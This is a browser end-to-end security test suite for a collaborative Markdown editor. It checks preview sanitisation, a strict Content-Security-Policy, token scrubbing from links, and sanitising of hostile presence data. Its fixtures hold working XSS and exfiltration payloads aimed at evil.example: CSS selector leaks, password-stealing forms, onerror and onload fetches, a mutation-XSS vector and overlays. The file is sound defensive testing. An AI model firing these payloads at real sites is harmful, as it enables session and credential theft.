"""The browser client under attack, in headless Chromium against a real server process.

What a hostile writer or reader can put in front of another person (an admin, say) and what
it gets now: Markdown with HTML meant to exfiltrate or overlay is inert in the preview, every
page runs under a strict Content-Security-Policy, a token given in a link leaves the address
bar and the DOM at once, and presence from a hostile client is shown as a bounded name in a
valid colour. Every test also records each request and WebSocket the pages open (none may go
to another origin) and every CSP violation (there must be none).

No sleeps: every wait is on a condition with a bounded timeout.
"""

from __future__ import annotations

import asyncio
import json
import re
import threading
from collections.abc import Coroutine, Iterator
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import urlsplit

import httpx
import pytest

from server.realtime import awareness, protocol
from server.tokens import mint
from tests.conftest import new_sqlite_url
from tests.e2e.conftest import DIST
from tests.e2e.test_browser import (
    SCREENSHOT_SUFFIX,
    SCREENSHOTS,
    TIMEOUT_MS,
    Person,
    expect,
    wait_until,
)
from tests.support.pyclient import YClient, wait_for
from tests.support.server_process import ServerProcess

pytestmark = pytest.mark.browser


SECRET = "browser-security-secret-0123456789abcdef"
T = TypeVar("T")

# Records CSP violations from the first moment of every document the page loads.
CSP_LISTENER = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`);
});
"""


def token(user: str, name: str, role: str) -> str:
    return mint(SECRET, user, {"*": role}, 600, display_name=name)


@pytest.fixture(scope="module")
def secured(client_dist: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    """A server with access control on, as an admin would run it."""
    folder = tmp_path_factory.mktemp("browser-security-db")
    env = {"PALIMPSEST_CLIENT_DIST": str(client_dist), "PALIMPSEST_SECRET": SECRET,
           # The hostile presence test sends a 10 kB name (the server's default refuses states
           # over 8 KiB): raised, so the client's own defences are what is tested.
           "PALIMPSEST_MAX_AWARENESS_STATE_BYTES": "16384"}
    with ServerProcess(new_sqlite_url(folder), env=env) as server:
        yield server


class Watched(Person):
    """A person whose page is watched: every request and socket, every CSP violation."""

    def __init__(self, browser: Any, name: str, origin: str) -> None:
        super().__init__(browser, name)
        self.origin = origin
        self.urls: list[str] = []
        self.csp_console: list[str] = []
        self.page.add_init_script(CSP_LISTENER)
        self.page.on("request", lambda request: self.urls.append(request.url))
        self.page.on("websocket", lambda ws: self.urls.append(ws.url))
        self.page.on("console", self._console)

    def ready(self) -> None:
        """Waits until the document page is connected and synced (Person.open without goto)."""
        expect(self.page.get_by_test_id("conn-status")).to_have_attribute(
            "data-state", "connected", timeout=TIMEOUT_MS)
        self.page.wait_for_function(
            "() => window.__palimpsest && window.__palimpsest.sync.provider.synced")

    def _console(self, message: Any) -> None:
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.csp_console.append(message.text)

    def foreign_requests(self) -> list[str]:
        """Requests and sockets to anything but the server's own origin (http or ws)."""
        own = urlsplit(self.origin).netloc
        return [url for url in self.urls
                if urlsplit(url).scheme not in ("http", "ws") or urlsplit(url).netloc != own]

    def csp_violations(self) -> list[str]:
        reported = self.page.evaluate("() => window.__cspViolations || []")
        return [*reported, *self.csp_console]

    def assert_clean(self) -> None:
        assert self.foreign_requests() == [], f"{self.name}'s page left its origin"
        assert self.csp_violations() == [], f"{self.name}'s page broke its CSP"


@pytest.fixture
def people(browser: Any) -> Iterator[list[Watched]]:
    made: list[Watched] = []
    yield made
    for person in made:
        person.close()


def new_document(server: ServerProcess, title: str, admin: str) -> str:
    response = httpx.post(f"{server.http_url}/api/documents", json={"title": title},
                          headers={"Authorization": f"Bearer {admin}"}, timeout=10)
    response.raise_for_status()
    return str(response.json()["id"])


def favicon_url() -> str:
    """A same-origin image the client ships (its name carries a content hash)."""
    found = re.search(r'href="(/assets/favicon-[^"]+)"', (DIST / "index.html").read_text())
    assert found, "dist/index.html links no icon"
    return found.group(1)


def hostile_markdown() -> str:
    return f"""# Quarterly report

Numbers are **up**, costs are *down*: see `report.csv` and [the plan](https://example.org/plan).

> Figures are provisional.

| Team | Score |
|:-----|------:|
| Blue | 7 |

![our logo]({favicon_url()}) ![tracker](http://evil.example/pixel.png)

<style>
a[href*="token=e"] {{ background: url(http://evil.example/leak?e) }}
input[value^="e"] {{ background: url(http://evil.example/leak?input) }}
* {{ background-image: url(http://evil.example/all) }}
</style>

<form action="http://evil.example/steal" method="post"><input name="password">
<button formaction="http://evil.example/b">Sign in again</button></form>

<div style="position:fixed;inset:0;z-index:9999;background:url(http://evil.example/o.png)">
Session expired</div>

<img src="http://evil.example/raw.png" onerror="fetch('http://evil.example/onerror')">

<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>

<svg onload="fetch('http://evil.example/svg')"><image href="http://evil.example/s.png"/></svg>

<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>

Links: <a href="javascript:fetch('http://evil.example/js')" class="overlay" id="app">raw</a>,
[markdown](javascript:alert(1)), [relative](/d/other) and <kbd>Ctrl</kbd>+<kbd>S</kbd>.

- [x] written
- [ ] reviewed
"""


# Tags and attributes the preview may contain (client_web/src/editor.js), nothing else.
PREVIEW_TAGS = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "ul", "ol", "li",
    "strong", "em", "b", "i", "del", "s", "code", "pre", "kbd", "sub", "sup",
    "table", "thead", "tbody", "tr", "th", "td", "a", "img",
}
PREVIEW_ATTRS = {"href", "title", "src", "alt", "align", "start", "target", "rel"}
PREVIEW_DOM = """(el) => [...el.querySelectorAll('*')].map((node) => ({
  tag: node.localName,
  ns: node.namespaceURI,
  attrs: [...node.attributes].map((a) => [a.name, a.value]),
}))"""


def test_hostile_markdown_is_inert_in_the_preview(
    secured: ServerProcess, browser: Any, people: list[Watched]
) -> None:
    admin, writer = token("ada", "Ada Admin", "admin"), token("grace", "Grace Writer", "write")
    doc_url = f"{secured.http_url}/d/{new_document(secured, 'Quarterly', admin)}"
    grace = Watched(browser, "Grace", secured.http_url)
    ada = Watched(browser, "Ada", secured.http_url)
    people.extend([grace, ada])
    grace.open(f"{doc_url}?token={writer}")
    grace.click_end()
    grace.insert(hostile_markdown())
    grace.wait_saved()

    # The admin opens the document and looks at the preview.
    ada.open(f"{doc_url}?token={admin}")
    ada.wait_text("t.includes('- [ ] reviewed')")
    ada.page.get_by_test_id("mode-split").click()
    preview = ada.page.get_by_test_id("preview")
    # The text was complete before the preview was first drawn: its first rendering is final.
    expect(preview.locator("h1")).to_have_text("Quarterly report")

    # Nothing but the allow-list survives: no <style>, style=, class or id, no form, frame,
    # embed, svg or math, no handler; links are http(s), mailto or relative; images are ours.
    nodes = preview.evaluate(PREVIEW_DOM)
    tags = {node["tag"] for node in nodes}
    assert tags <= PREVIEW_TAGS, f"unexpected elements in the preview: {tags - PREVIEW_TAGS}"
    assert all(node["ns"] == "http://www.w3.org/1999/xhtml" for node in nodes)  # no svg, math
    for node in nodes:
        for name, value in node["attrs"]:
            assert name in PREVIEW_ATTRS, f"<{node['tag']} {name}={value!r}> in the preview"
            if name == "href":
                assert urlsplit(value).scheme in ("", "http", "https", "mailto"), value
            if name == "src":
                assert value.startswith("/") and not value.startswith("//"), value
    for forbidden in ("style", "form", "input", "button", "iframe", "object", "svg", "math"):
        expect(ada.page.locator(f"[data-testid=preview] {forbidden}")).to_have_count(0)
    for person in (grace, ada):
        person.assert_clean()

    # What a writer may format is rendered...
    expect(preview.locator("strong")).to_have_text("up")
    expect(preview.locator("em")).to_have_text("down")
    expect(preview.locator("code")).to_have_text("report.csv")
    expect(preview.locator("blockquote")).to_contain_text("provisional")
    expect(preview.locator("th")).to_have_count(2)
    expect(preview.locator("kbd")).to_have_count(2)
    expect(preview.locator("li")).to_have_text(["\u2611 written", "\u2610 reviewed"])
    plan = preview.get_by_role("link", name="the plan")
    expect(plan).to_have_attribute("href", "https://example.org/plan")
    expect(plan).to_have_attribute("rel", "noopener noreferrer")
    expect(preview.get_by_role("link", name="relative")).to_have_attribute("href", "/d/other")
    # ...an image from this server loads, one from elsewhere is only its description...
    logo = preview.locator("img")
    expect(logo).to_have_count(1)
    expect(logo).to_have_attribute("src", favicon_url())
    ada.page.wait_for_function("(img) => img.complete && img.naturalWidth > 0",
                               arg=logo.element_handle(), timeout=TIMEOUT_MS)
    expect(preview).to_contain_text("[tracker]")
    # ...and raw HTML is shown as the text it is, never parsed.
    expect(preview).to_contain_text('<div style="position:fixed;inset:0')
    expect(preview).to_contain_text("<style>")

    # Nothing covers the page: what is under its centre is the app's own.
    covering = ada.page.evaluate("""() => {
      const el = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
      return el.closest('.workspace') ? 'workspace' : el.outerHTML.slice(0, 200);
    }""")
    assert covering == "workspace"
    # The admin could still read the page and work: the preview's links carry no token.
    assert admin not in ada.page.evaluate("() => document.documentElement.outerHTML")
    for person in (grace, ada):
        person.assert_clean()


def csp_of(response: httpx.Response) -> dict[str, list[str]]:
    header = response.headers.get("content-security-policy")
    assert header, f"{response.url} has no Content-Security-Policy"
    directives: dict[str, list[str]] = {}
    for part in header.split(";"):
        name, *sources = part.split()
        directives[name] = sources
    return directives


def assert_strict(response: httpx.Response, port: int) -> dict[str, list[str]]:
    csp = csp_of(response)
    assert csp["default-src"] == ["'self'"]
    assert csp["script-src"] == ["'self'"]
    assert csp["style-src"][0] == "'self'"
    assert all(s.startswith("'nonce-") for s in csp["style-src"][1:])
    assert csp["style-src-attr"] == ["'none'"]
    assert csp["img-src"] == ["'self'"]
    assert csp["connect-src"][0] == "'self'"
    assert set(csp["connect-src"][1:]) <= {f"ws://127.0.0.1:{port}"}
    for directive in ("object-src", "base-uri", "form-action", "frame-ancestors", "frame-src"):
        assert csp[directive] == ["'none'"], directive
    every_source = " ".join(" ".join(sources) for sources in csp.values())
    assert "unsafe" not in every_source and "*" not in every_source and "data:" not in every_source
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    return csp


def test_pages_and_assets_carry_a_strict_content_security_policy(secured: ServerProcess) -> None:
    nonces = set()
    for path in ("/", "/d/x", "/d/x?token=whatever"):
        response = httpx.get(secured.http_url + path, timeout=10)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/html")
        assert response.headers["cache-control"] == "no-store"
        csp = assert_strict(response, secured.port)
        # One fresh nonce per response, and it is the one the page hands to CodeMirror.
        (nonce_source,) = csp["style-src"][1:]
        nonce = nonce_source.removeprefix("'nonce-").removesuffix("'")
        assert f'<meta name="csp-nonce" content="{nonce}">' in response.text
        nonces.add(nonce)
        assert "__CSP_NONCE__" not in response.text
    assert len(nonces) == 3

    page = httpx.get(secured.http_url + "/", timeout=10).text
    assets = re.findall(r'(?:src|href)="(/assets/[^"]+)"', page)
    assert len(assets) == 3  # icon, stylesheet, script
    for asset in assets:
        response = httpx.get(secured.http_url + asset, timeout=10)
        assert response.status_code == 200
        assert_strict(response, secured.port)
        expected = {".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml"}
        assert response.headers["content-type"].startswith(expected[Path(asset).suffix])
    missing = httpx.get(secured.http_url + "/assets/nothing-here.js", timeout=10)
    assert missing.status_code == 404
    assert_strict(missing, secured.port)


def test_a_token_in_the_link_leaves_the_url_and_the_page_and_editing_still_works(
    secured: ServerProcess, browser: Any, people: list[Watched]
) -> None:
    admin, writer = token("ada", "Ada Admin", "admin"), token("grace", "Grace Writer", "write")
    doc_id = new_document(secured, "Tokens", admin)
    doc_url = f"{secured.http_url}/d/{doc_id}"
    ada = Watched(browser, "Ada", secured.http_url)
    grace = Watched(browser, "Grace", secured.http_url)
    people.extend([ada, grace])
    ada.open(f"{doc_url}?token={admin}&x=1")
    # A token in the fragment (never sent to the server) works the same way.
    grace.open(f"{doc_url}#token={writer}")

    def assert_no_token(person: Watched, secret: str) -> None:
        page = person.page
        assert secret not in page.url
        assert "token" not in page.url
        assert secret not in page.evaluate("() => document.documentElement.outerHTML")
        assert secret not in page.evaluate("() => document.title + location.href")
        hrefs = page.evaluate("() => [...document.querySelectorAll('[href]')].map(e => e.href)")
        assert hrefs and all("token" not in href for href in hrefs), hrefs
        # Kept for this tab only.
        assert page.evaluate("() => sessionStorage.getItem('palimpsest.token')") == secret

    assert ada.page.url == f"{doc_url}?x=1"  # other parameters stay
    assert grace.page.url == doc_url
    assert_no_token(ada, admin)
    assert_no_token(grace, writer)

    # The page still works: edits sync both ways, with the right identities.
    expect(ada.page.get_by_test_id("name-input")).to_have_value("Ada Admin")
    ada.click_end()
    ada.insert("Written by the admin.")
    grace.wait_exact("Written by the admin.")
    grace.click_end()
    grace.insert(" And by a writer.")
    grace.wait_saved()
    ada.wait_exact("Written by the admin. And by a writer.")

    # The history (coloured by author through CSS properties) keeps to the CSP as well.
    ada.page.get_by_test_id("history-toggle").click()
    # Written together: one working session with both people's words marked.
    expect(ada.page.get_by_test_id("revision-item")).to_have_count(1)
    ada.page.get_by_test_id("revision-item").last.click()
    expect(ada.page.get_by_test_id("history-view")).to_have_text(
        "Written by the admin. And by a writer.", timeout=TIMEOUT_MS)
    expect(ada.page.locator(".chg-ins")).to_have_count(2)
    assert ada.page.locator(".chg-ins").first.evaluate(
        "(el) => getComputedStyle(el).getPropertyValue('--author')").startswith("#")
    ada.page.get_by_role("button", name="Close history").click()

    # In-app links carry no token and work because the tab remembers it: to the document
    # list (an authenticated API call) and back into the document.
    def listed() -> bool:
        response = httpx.get(f"{secured.http_url}/api/documents", timeout=10,
                             headers={"Authorization": f"Bearer {admin}"})
        return any(item["id"] == doc_id for item in response.json()["items"])
    wait_until(listed, "the document in the list (a read model)")
    ada.page.locator("a.brand").click()
    ada.page.wait_for_url(secured.http_url + "/")
    item = ada.page.get_by_test_id("doc-item").filter(has_text="Tokens")
    expect(item).to_have_count(1)
    link = item.get_by_role("link", name="Tokens")
    expect(link).to_have_attribute("href", f"/d/{doc_id}")
    assert_no_token(ada, admin)
    link.click()
    ada.page.wait_for_url(doc_url)
    ada.ready()
    ada.wait_exact("Written by the admin. And by a writer.")
    ada.click_end()
    ada.insert(" Back again.")
    grace.wait_exact("Written by the admin. And by a writer. Back again.")
    assert_no_token(ada, admin)
    for person in (ada, grace):
        person.assert_clean()


class HostileClient:
    """A pycrdt client (tests/support/pyclient.py) on an event loop of its own thread, so the
    sync Playwright API can drive the pages meanwhile. pycrdt objects stay on that thread."""

    def __init__(self, server: ServerProcess, doc_id: str, token: str) -> None:
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, name="hostile-client",
                                       daemon=True)
        self.thread.start()
        self.client: YClient = self.run(self._connect(server.ws_url, doc_id, token))

    @staticmethod
    async def _connect(ws_url: str, doc_id: str, token: str) -> YClient:
        client = YClient(ws_url, doc_id, token=token, name="mallory")
        await client.connect()
        return client

    def run(self, coroutine: Coroutine[Any, Any, T], timeout: float = 15) -> T:
        return asyncio.run_coroutine_threadsafe(coroutine, self.loop).result(timeout)

    def wait_text(self, needle: str) -> None:
        self.run(wait_for(lambda: needle in self.client.value(), 10,
                          lambda: f"hostile client has {self.client.value()[:200]!r}"))

    def selection_of(self, word: str) -> tuple[int, dict[str, Any]]:
        """Its own client id, and a cursor selecting `word` (relative positions as JSON)."""
        async def find() -> tuple[int, dict[str, Any]]:
            text = self.client.value()
            start = text.index(word)
            anchor = self.client.text.sticky_index(start).to_json()
            head = self.client.text.sticky_index(start + len(word)).to_json()
            return int(self.client.doc.client_id), {"anchor": anchor, "head": head}
        return self.run(find())

    def announce(self, states: dict[int, Any]) -> None:
        """Sends awareness states (JSON text exactly as given) for these client ids."""
        update = awareness.encode(
            [(client, 1, state if isinstance(state, str) else json.dumps(state))
             for client, state in states.items()])

        async def send() -> None:
            assert self.client.ws is not None
            await self.client.ws.send(protocol.awareness(update))
        self.run(send())

    def close(self) -> None:
        try:
            self.run(self.client.close())
        finally:
            self.loop.call_soon_threadsafe(self.loop.stop)
            self.thread.join(10)
            self.loop.close()


OVERLAY_COLOR = "red;background:url(http://evil.example/x);position:fixed;inset:0"
LONG_NAME = "\u0000\u0007Mallory\u202e\u001b[31m\r\n" + "M" * 10_000


def test_hostile_presence_shows_a_safe_colour_and_a_bounded_name(
    secured: ServerProcess, browser: Any, people: list[Watched]
) -> None:
    admin, writer, reader = (token("ada", "Ada Admin", "admin"),
                             token("grace", "Grace Hopper", "write"),
                             token("mallory", "Mallory Reader", "read"))
    doc_url = f"{secured.http_url}/d/{new_document(secured, 'Presence', admin)}"
    grace = Watched(browser, "Grace", secured.http_url)
    ada = Watched(browser, "Ada", secured.http_url)
    people.extend([grace, ada])
    grace.open(f"{doc_url}?token={writer}")
    grace.click_end()
    grace.insert(
        "# Launch plan\n\nShip on **Monday**, after the review by Mallory.\n\n"
        "- Freeze the branch\n- Write the notes\n\n"
        '<div style="position:fixed;inset:0">raw HTML stays text</div>\n'
    )
    grace.wait_saved()
    ada.open(f"{doc_url}?token={admin}")
    ada.page.get_by_test_id("mode-split").click()

    # A reader's client announces hostile presence for itself and three made-up client ids.
    mallory = HostileClient(secured, doc_url.rsplit("/", 1)[1], reader)
    try:
        mallory.wait_text("review by Mallory")
        me, cursor = mallory.selection_of("Mallory")
        mallory.announce({
            me: {"user": {"name": LONG_NAME, "color": OVERLAY_COLOR,
                          "colorLight": "url(http://evil.example/light)"}, "cursor": cursor},
            4242: {"user": {"name": {"toString": "x"}, "color": "#12345"}},
            4243: {"user": {"name": "<img src=http://evil.example/n onerror=alert(1)>",
                            "color": "var(--x, url(http://evil.example/v))"},
                   "cursor": {"anchor": {"tname": "elsewhere", "item": None},
                              "head": {"item": {"client": "x", "clock": -1}}}},
            4244: {"user": "just a string", "cursor": 7},
        })

        people_list = ada.page.get_by_test_id("people-list")
        expect(people_list.get_by_test_id("person")).to_have_count(6)  # Ada, Grace, 4 hostile
        shown = ada.page.evaluate("""() => [...document.querySelectorAll('[data-testid=person]')]
          .map((li) => {
            const avatar = li.querySelector('.avatar');
            const name = li.querySelector('.person-name');
            return {
              id: li.dataset.clientId,
              name: name.textContent,
              nameWidth: name.getBoundingClientRect().width,
              color: getComputedStyle(avatar).backgroundColor,
              styleProps: avatar.style.length,
              styleText: avatar.getAttribute('style') || '',
            };
          })""")
        by_id = {entry["id"]: entry for entry in shown}
        bad = re.compile(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
        for entry in shown:
            assert len(entry["name"]) <= 64 and not bad.search(entry["name"]), entry
            assert re.fullmatch(r"rgb\(\d+, \d+, \d+\)", entry["color"]), entry
            assert entry["styleProps"] == 1 and "url(" not in entry["styleText"], entry
            assert entry["nameWidth"] < 300, entry
        hostile = by_id[str(me)]
        assert hostile["name"] == ("Mallory[31m " + "M" * 64)[:64]
        assert hostile["color"] != "rgb(255, 0, 0)"
        assert by_id["4242"]["name"] == "Anonymous"
        assert by_id["4243"]["name"] == "<img src=http://evil.example/n onerror=alert(1)>"
        assert by_id["4244"]["name"] == "Anonymous"
        # Colours not of the form #rrggbb are replaced by one made from the client id: three
        # fixed ids, three colours (Mallory's own id is random: its colour, one of 720, may
        # meet one of theirs, so it is only checked to be none of what it asked for).
        assert len({by_id[str(i)]["color"] for i in (4242, 4243, 4244)}) == 3

        # In the editor: Mallory's selection and caret, in that same colour, the name bounded.
        info = ada.page.locator(".cm-ySelectionInfo", has_text="Mallory[31m")
        expect(info).to_have_count(1)
        expect(info).to_be_visible()
        caret = ada.page.evaluate("""() => {
          const info = [...document.querySelectorAll('.cm-ySelectionInfo')]
            .find((el) => el.textContent.startsWith('Mallory'));
          const caret = info.parentElement;
          const tints = [...document.querySelectorAll('.cm-ySelection')];
          return {
            text: info.textContent,
            width: info.getBoundingClientRect().width,
            color: getComputedStyle(info).backgroundColor,
            border: getComputedStyle(caret).borderLeftColor,
            position: getComputedStyle(caret).position,
            tints: tints.map((t) => getComputedStyle(t).backgroundColor),
            covered: tints.map((t) => t.getBoundingClientRect().width),
          };
        }""")
        assert caret["text"] == hostile["name"]
        assert caret["color"] == caret["border"] == hostile["color"]
        assert caret["width"] < 300 and caret["position"] == "absolute"
        assert caret["tints"], "Mallory's selection is not drawn"
        r, g, b = re.findall(r"\d+", hostile["color"])[:3]
        assert all(tint == f"rgba({r}, {g}, {b}, 0.2)" for tint in caret["tints"]), caret
        assert 20 < sum(caret["covered"]) < 200  # the width of the one word "Mallory"
        # Malformed cursors draw nothing; only Mallory's and Grace's carets are there.
        expect(ada.page.locator(".cm-ySelectionCaret")).to_have_count(2)

        # Nothing on the page carries the hostile styles or an image from elsewhere.
        leaks = ada.page.evaluate("""() => [...document.querySelectorAll('*')].filter((el) => {
          const style = getComputedStyle(el);
          return style.backgroundImage.includes('evil') || el.outerHTML.includes('url(http')
            || (style.position === 'fixed' && el.getBoundingClientRect().width >= innerWidth);
        }).map((el) => el.outerHTML.slice(0, 120))""")
        assert leaks == []

        # The admin still works normally, and Grace sees the same safe presence.
        ada.click_end()
        ada.insert("\nReviewed.")
        grace.wait_text("t.endsWith('Reviewed.')")
        expect(grace.page.get_by_test_id("person")).to_have_count(6)
        expect(grace.page.locator(".cm-ySelectionInfo", has_text="Mallory[31m")).to_have_count(1)

        ada.page.evaluate("() => document.getElementById('toasts').replaceChildren()")
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        ada.page.screenshot(path=str(SCREENSHOTS / f"security-preview{SCREENSHOT_SUFFIX}.png"))
    finally:
        mallory.close()
    for person in (grace, ada):
        person.assert_clean()
